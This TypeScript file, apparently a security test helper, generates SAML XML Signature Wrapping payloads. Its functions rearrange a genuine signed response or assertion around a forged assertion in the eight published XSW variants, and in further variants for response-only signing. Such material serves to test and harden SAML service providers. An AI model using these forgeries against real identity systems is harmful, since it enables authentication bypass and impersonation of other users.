/** What a forger holds: parts of a genuine response for somebody, and the claims of somebody else. */
export interface Loot {
  /** The genuine assertion with its signature. */
  readonly signed: string;
  /** An assertion about somebody else, without a signature. */
  readonly evil: string;
  /** Makes a response with what it holds. */
  respond(content: string): string;
  /** Signs a whole response, as the provider does for its own. */
  readonly signedResponse: string;
}

const signatureIn = (xml: string) => /<Signature [\s\S]*?<\/Signature>/.exec(xml)?.[0] ?? '';
const withoutSignature = (xml: string) => xml.replace(signatureIn(xml), '');
/** Puts XML after the issuer, where signatures are. */
const afterIssuer = (xml: string, more: string) => xml.replace('</saml:Issuer>', `</saml:Issuer>${more}`);
const before = (xml: string, tag: string, more: string) => {
  const at = xml.lastIndexOf(tag);
  return xml.slice(0, at) + more + xml.slice(at);
};
const inside = (signature: string, more: string) =>
  before(signature, '</Signature>', `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${more}</Object>`);
const idOf = (xml: string) => / ID="([^"]+)"/.exec(xml)?.[1] ?? '';
const withId = (xml: string, id: string) => xml.replace(/ ID="[^"]+"/, ` ID="${id}"`);

/** An evil response that carries the genuine signed response, in or beside its signature. */
const aroundResponse = ({ signedResponse, evil }: Loot) => {
  const evilResponse = withId(withoutSignature(signedResponse), '_evil').replace(
    /<saml:Assertion[\s\S]*<\/saml:Assertion>/,
    evil,
  );
  return { evilResponse, signature: signatureIn(signedResponse), original: withoutSignature(signedResponse) };
};

/** The eight ways of signature wrapping (Somorovsky et al., On Breaking SAML, 2012). */
export const wrappings: Readonly<Record<string, (loot: Loot) => string>> = {
  'XSW1: the response in the signature of an evil response'(loot) {
    const { evilResponse, signature, original } = aroundResponse(loot);
    return afterIssuer(evilResponse, inside(signature, original));
  },
  'XSW2: the response before a detached signature'(loot) {
    const { evilResponse, signature, original } = aroundResponse(loot);
    return afterIssuer(evilResponse, original + signature);
  },
  'XSW3: an evil assertion before the signed one': ({ respond, evil, signed }) => respond(evil + signed),
  'XSW4: the signed assertion in an evil one': ({ respond, evil, signed }) =>
    respond(before(evil, '</saml:Assertion>', signed)),
  'XSW5: the signature in an evil assertion, and the signed one behind': ({ respond, evil, signed }) =>
    respond(afterIssuer(evil, signatureIn(signed)) + withoutSignature(signed)),
  'XSW6: the signed assertion in its signature, in an evil one': ({ respond, evil, signed }) =>
    respond(afterIssuer(evil, inside(signatureIn(signed), withoutSignature(signed)))),
  'XSW7: an evil assertion with the same id in extensions': ({ respond, evil, signed }) =>
    respond(`<samlp:Extensions>${withId(evil, idOf(signed))}</samlp:Extensions>${signed}`),
  'XSW8: the signed assertion in an object of the signature of an evil one with its id': ({ respond, evil, signed }) =>
    respond(afterIssuer(withId(evil, idOf(signed)), inside(signatureIn(signed), withoutSignature(signed)))),
};

/** Puts an assertion in the place of that of a response. */
const withAssertion = (response: string, assertion: string) =>
  response.replace(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, () => assertion);

/** The same where the provider signs only its responses: the assertion has no signature of its own. */
export const responseWrappings: Readonly<Record<string, (loot: Loot) => string>> = {
  ...pick('XSW1: the response in the signature of an evil response', 'XSW2: the response before a detached signature'),
  'an evil assertion in the place of the genuine one': ({ signedResponse, evil }) =>
    withAssertion(signedResponse, evil),
  'an evil assertion before the genuine one': ({ signedResponse, evil, signed }) =>
    withAssertion(signedResponse, evil + signed),
  'an evil assertion that has the signature of the response': ({ signedResponse, evil, respond }) =>
    respond(afterIssuer(evil, signatureIn(signedResponse))),
  'an evil assertion with the id and the signature of the response': ({ signedResponse, evil, respond }) =>
    respond(afterIssuer(withId(evil, idOf(signedResponse)), signatureIn(signedResponse))),
  'an evil response with the id and the signature of the response': ({ signedResponse, evil }) =>
    withAssertion(withoutSignature(signedResponse), evil).replace(
      '</saml:Issuer>',
      `</saml:Issuer>${signatureIn(signedResponse)}`,
    ),
  'the response in the extensions of an evil one': ({ signedResponse, evil, respond }) =>
    respond(`<samlp:Extensions>${signedResponse}</samlp:Extensions>${evil}`),
  'the signed response without its assertion, in the signature of an evil response': (loot) => {
    const { evilResponse, signature, original } = aroundResponse(loot);
    return afterIssuer(evilResponse, inside(signature, withAssertion(original, '')));
  },
  'two signatures of the response': ({ signedResponse, evil }) =>
    afterIssuer(withAssertion(signedResponse, evil), signatureIn(signedResponse)),
};

function pick(...names: readonly (keyof typeof wrappings)[]) {
  return Object.fromEntries(names.map((name) => [name, (loot: Loot) => wrappings[name]?.(loot) ?? '']));
}
